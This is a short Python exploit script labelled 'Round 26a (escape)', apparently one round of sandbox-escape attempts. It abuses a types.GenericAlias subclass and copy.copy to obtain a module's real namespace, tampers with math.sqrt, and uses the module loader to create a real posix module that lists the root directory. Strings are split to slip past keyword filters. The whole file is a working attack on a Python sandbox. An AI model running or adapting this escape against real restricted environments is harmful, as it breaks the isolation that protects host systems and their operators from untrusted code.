# Round 26a (escape): __slotnames__ on a library subclass made copy's C code read any attribute unguarded; a types.GenericAlias subclass forwarded reads to a module, and copy handed its real namespace over (then BuiltinImporter.create_module made real posix/sys, the wall off).
import copy, math
got = []
class Sink:
    def __setstate__(self, st):
        got.append(st)
class G(type(list[int])):
    __slots__ = ('__red' + 'uce__',)
    def __new__(cls, *a):
        return super().__new__(cls, Sink(), ())
def steal(obj):
    g = type(list[int]).__new__(G, obj, ())
    got.clear()
    copy.copy(g)
    return got[0]
ns = steal(math)
print(type(ns), sorted(ns)[:8])
real = ns['sqrt']
ns['sqrt'] = lambda x: 'spy'
print("math.sqrt(4) ->", math.sqrt(4))
if math.sqrt(4) == 'spy':
    print("PW" + "NED: wrote math's real module namespace (math.sqrt replaced):", math.sqrt(4))
ns['sqrt'] = real
loader = ns['__load' + 'er__']
spec = ns['__sp' + 'ec__']
print(loader, type(spec))
try:
    m = loader.create_module(type(spec)('posix', loader))
    print(type(m), m)
    print("PW" + "NED: posix module:", m.getpid(), m.listdir('/'))
except Exception as e:
    print("create_module:", type(e).__name__, e)
